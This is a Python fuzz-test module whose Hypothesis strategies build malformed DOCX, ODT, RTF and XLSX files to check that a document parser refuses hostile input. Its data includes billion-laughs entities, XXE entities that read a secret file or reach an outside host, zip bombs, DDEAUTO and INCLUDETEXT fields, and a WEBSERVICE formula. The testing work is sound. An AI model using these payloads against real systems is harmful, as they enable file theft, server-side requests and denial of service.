"""Word files, OpenDocument and workbooks: packages of XML whose elements stand where none belongs, and XML that asks
for more than a document should."""

from __future__ import annotations

import io

import docx
from hypothesis import strategies as st

from tests.fuzz import forms
from tests.fuzz.drawing import Member, damaged, lying, repacked, unzipped, zipped
from tests.fuzz.watched import OUTSIDE
from tests.fuzz.words import PIECES, REPORT

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
ODF = "urn:oasis:names:tc:opendocument:xmlns"


def a_docx() -> bytes:
    stream, document = io.BytesIO(), docx.Document()
    for line in REPORT.split("\n"):
        document.add_paragraph(line)
    table = document.add_table(2, 3)
    for row, said in zip(table.rows, (("Chỉ tiêu", "Đơn vị", "Kỳ này"), ("Tiếp công dân", "lượt", "46")), strict=True):
        for cell, word in zip(row.cells, said, strict=True):
            cell.text = word
    document.save(stream)
    return stream.getvalue()


def an_odt() -> bytes:
    manifest = (
        f'<m:manifest xmlns:m="{ODF}:manifest:1.0" m:version="1.2"><m:file-entry m:full-path="/" '
        'm:media-type="application/vnd.oasis.opendocument.text"/>'
        '<m:file-entry m:full-path="content.xml" m:media-type="text/xml"/></m:manifest>'
    )
    names = f'xmlns:o="{ODF}:office:1.0" xmlns:t="{ODF}:text:1.0" xmlns:d="{ODF}:drawing:1.0" xmlns:x="http://www.w3.org/1999/xlink"'
    words = "".join(f"<t:p>{line}</t:p>" for line in REPORT.split("\n"))
    content = (
        f'<o:document-content {names} o:version="1.2"><o:body><o:text>{words}</o:text></o:body></o:document-content>'
    )
    return zipped(
        [
            Member("mimetype", b"application/vnd.oasis.opendocument.text", 0),
            Member("META-INF/manifest.xml", manifest.encode()),
            Member("content.xml", content.encode()),
        ]
    )


DOCX, ODT = a_docx(), an_odt()
# What asks for more: entities that grow, a file beside, another host. All must be refused, whatever they hold.
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
DOCTYPES = {
    "none": "",
    "laughs": f'<!DOCTYPE w [<!ENTITY l0 "46 lượt công dân ">{LAUGHS}]>',
    "file": f'<!DOCTYPE w [<!ENTITY l9 SYSTEM "{OUTSIDE.secret.as_uri()}">]>',
    "host": f'<!DOCTYPE w [<!ENTITY l9 SYSTEM "{OUTSIDE.address}">]>',
    "parameter": f'<!DOCTYPE w [<!ENTITY % p SYSTEM "{OUTSIDE.address}">%p;<!ENTITY l9 "x">]>',
    "grammar": f'<!DOCTYPE w SYSTEM "{OUTSIDE.address}">',
    "grown once": f'<!DOCTYPE w [<!ENTITY l9 "{"a" * 100_000}">]>',
}
ELEMENTS = ("p", "r", "t", "tbl", "tr", "tc", "tcPr", "gridSpan", "sdt", "sdtContent", "tab", "br", "rPr", "rFonts", "body",
            "hyperlink", "ins", "del", "pict", "txbxContent", "fldSimple", "instrText", "sectPr", "document")  # fmt: skip
VALUES = ("1", "63", "9999", "99999999999", "-1", "0", "", "x", ".VnTimeH", ".vn" + "a" * 5000 + "h", "²")


@st.composite
def tree(draw: st.DrawFn) -> str:
    """Elements of Word inside one another, in any order."""
    parts, open_ = [], []
    for _ in range(draw(st.integers(1, 60))):
        kind = draw(st.sampled_from(("open", "open", "open", "words", "words", "close", "deep", "many")))
        name = draw(st.sampled_from(ELEMENTS))
        if kind == "open":
            value = draw(st.sampled_from(VALUES))
            parts.append(f'<w:{name} w:val="{value}" w:ascii="{value}">')
            open_.append(name)
        elif kind == "words":
            words = draw(st.sampled_from((*PIECES, REPORT))).replace("\x00", "").replace("&", "")
            parts.append(f"<w:t>{words}</w:t>")
        elif kind == "close" and open_:
            parts.append(f"</w:{open_.pop()}>")
        elif kind == "deep":
            times = draw(st.sampled_from((10, 100, 250, 10_000)))
            parts.append(f"<w:{name}>" * times + f"</w:{name}>" * times)
        elif kind == "many":
            parts.append(f"<w:{name}><w:t>46 lượt</w:t></w:{name}>" * draw(st.sampled_from((10, 1000, 20_000))))
    return "".join(parts) + "".join(f"</w:{name}>" for name in reversed(open_))


@st.composite
def document_part(draw: st.DrawFn, doctypes: tuple[str, ...] = ("none",)) -> bytes:
    doctype = DOCTYPES[draw(st.sampled_from(doctypes))]
    asks = "<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>" if doctype else ""
    written = draw(st.sampled_from(("utf-8", "utf-8", "utf-16", "iso-8859-1")))
    xml = (
        f'<?xml version="1.0" encoding="{written}"?>{doctype}<w:document xmlns:w="{WORD}"><w:body>{asks}{draw(tree())}'
    )
    return f"{xml}</w:body></w:document>".encode(written, "replace")


PARTS_OF_DOCX = unzipped(DOCX)
MAIN = "word/document.xml"


def word() -> st.SearchStrategy[bytes]:
    return st.one_of(repacked(PARTS_OF_DOCX, document_part(), MAIN), damaged([DOCX]), lying(DOCX))


@st.composite
def word_with_entities(draw: st.DrawFn) -> bytes:
    part = draw(document_part(tuple(name for name in DOCTYPES if name != "none")))
    return zipped(Member(name, part if name == MAIN else data) for name, data in PARTS_OF_DOCX.items())


BOMBS = {
    "one part": [Member(MAIN, b"0" * 60_000_000)],
    "white space": [Member(MAIN, f'<w:document xmlns:w="{WORD}">{" " * 39_000_000}</w:document>'.encode())],
    "paragraphs": [
        Member(MAIN, f'<w:document xmlns:w="{WORD}"><w:body>{"<w:p/>" * 300_000}</w:body></w:document>'.encode())
    ],
    "beside": [
        Member(MAIN, PARTS_OF_DOCX[MAIN]),
        *(Member(f"word/media/{n}.png", b"0" * 9_000_000) for n in range(20)),
    ],
    "members": [Member(MAIN, PARTS_OF_DOCX[MAIN]), *(Member(f"word/{n}", b"") for n in range(20_000))],
}

# OpenDocument, old Word and rich text are opened by a program: what we hand on, and what came back.
PARTS_OF_ODT = unzipped(ODT)


@st.composite
def open_part(draw: st.DrawFn) -> bytes:
    doctype = DOCTYPES[draw(st.sampled_from(sorted(DOCTYPES)))]
    links = (f'<d:image x:href="{OUTSIDE.address}"/>', f'<t:section-source x:href="{OUTSIDE.secret.as_uri()}"/>',
             f'<d:object x:href="{OUTSIDE.address}" x:type="simple"/>', "<t:p/>" * 1000, "<t:span>" * 200 + "</t:span>" * 200)  # fmt: skip
    body = "".join(draw(st.lists(st.sampled_from(links), max_size=3)))
    names = f'xmlns:o="{ODF}:office:1.0" xmlns:t="{ODF}:text:1.0" xmlns:d="{ODF}:drawing:1.0" xmlns:x="http://www.w3.org/1999/xlink"'
    asks = "&l9;" if doctype else ""
    xml = (
        f"<o:document-content {names} o:version='1.2'><o:body><o:text><t:p>{asks}46 lượt{body}</t:p></o:text></o:body>"
    )
    return f"{doctype}{xml}</o:document-content>".encode()


def open_document() -> st.SearchStrategy[bytes]:
    return st.one_of(repacked(PARTS_OF_ODT, open_part(), "content.xml"), damaged([ODT]), lying(ODT))


RTF = b"{\\rtf1\\ansi{\\fonttbl{\\f0 Times New Roman;}}\\f0 N\\u259?m 2023, ti\\u7871?p 46 l\\u432?\\u7907?t c\\u244?ng d\\u226?n.\\par}"


@st.composite
def rich_text(draw: st.DrawFn) -> bytes:
    links = (f'INCLUDEPICTURE "{OUTSIDE.address}"', f'INCLUDETEXT "{OUTSIDE.secret}"', f'DDEAUTO "{OUTSIDE.address}"')
    field = f"{{\\field{{\\*\\fldinst {draw(st.sampled_from(links))}}}{{\\fldrslt x}}}}"
    times = draw(st.sampled_from((0, 10, 5000)))
    body = draw(
        st.sampled_from((b"", field.encode(), b"{" * times + b"}" * times, b"\\bin99999999 ", b"\\u-1?" * times))
    )
    whole = RTF[:-1] + body + b"}"
    return draw(st.one_of(st.just(whole), damaged([whole])))


# Workbooks.
PARTS_OF_FORM, PARTS_OF_OTHER = unzipped(forms.filled()), unzipped(forms.not_ours())


@st.composite
def sheet_part(draw: st.DrawFn) -> bytes:
    """Cells at odd places, of odd kinds."""
    places = ("A1", "B2", "D5", "XFD1048576", "A0", "", "ZZZZ9", "A-1", "A99999999999", "1A")
    kinds = ("n", "s", "str", "inlineStr", "b", "e", "d", "x", "")
    values = ("1", "46", "-1", "1e999", "NaN", "#REF!", "9" * 400, "x", "", "2024-13-45", "999999")
    cells = []
    for _ in range(draw(st.integers(0, 30))):
        place, kind, value = (draw(st.sampled_from(some)) for some in (places, kinds, values))
        formula = draw(
            st.sampled_from(("", "", "<f>1+1</f>", f'<f>WEBSERVICE("{OUTSIDE.address}")</f>', '<f t="shared" si="9"/>'))
        )
        style = draw(st.sampled_from(("", ' s="1"', ' s="99999"', ' s="-1"', ' s="x"')))
        cells.append(f'<c r="{place}" t="{kind}"{style}>{formula}<v>{value}</v><is><t>{value}</t></is></c>')
    size = draw(st.sampled_from(("A1:D9", "A1:XFD1048576", "", "x", "B9:A1")))
    doctype = DOCTYPES[draw(st.sampled_from(("none", "none", "laughs", "file", "host")))]
    asks = '<c r="A3" t="inlineStr"><is><t>&l9;</t></is></c>' if doctype else ""
    rows = f'<row r="{draw(st.sampled_from((*places[-3:], "1", "1048576")))}">{"".join(cells)}{asks}</row>'
    merged = draw(
        st.sampled_from(
            (
                "",
                '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>',
                '<mergeCells><mergeCell ref="x"/></mergeCells>',
            )
        )
    )
    return f'{doctype}<worksheet xmlns="{SHEET}"><dimension ref="{size}"/><sheetData>{rows}</sheetData>{merged}</worksheet>'.encode()


def workbook() -> st.SearchStrategy[bytes]:
    page = "xl/worksheets/sheet1.xml"
    return st.one_of(
        repacked(PARTS_OF_OTHER, sheet_part(), page),
        repacked(PARTS_OF_FORM, sheet_part(), page),
        damaged([forms.filled(), forms.not_ours()]),
    )
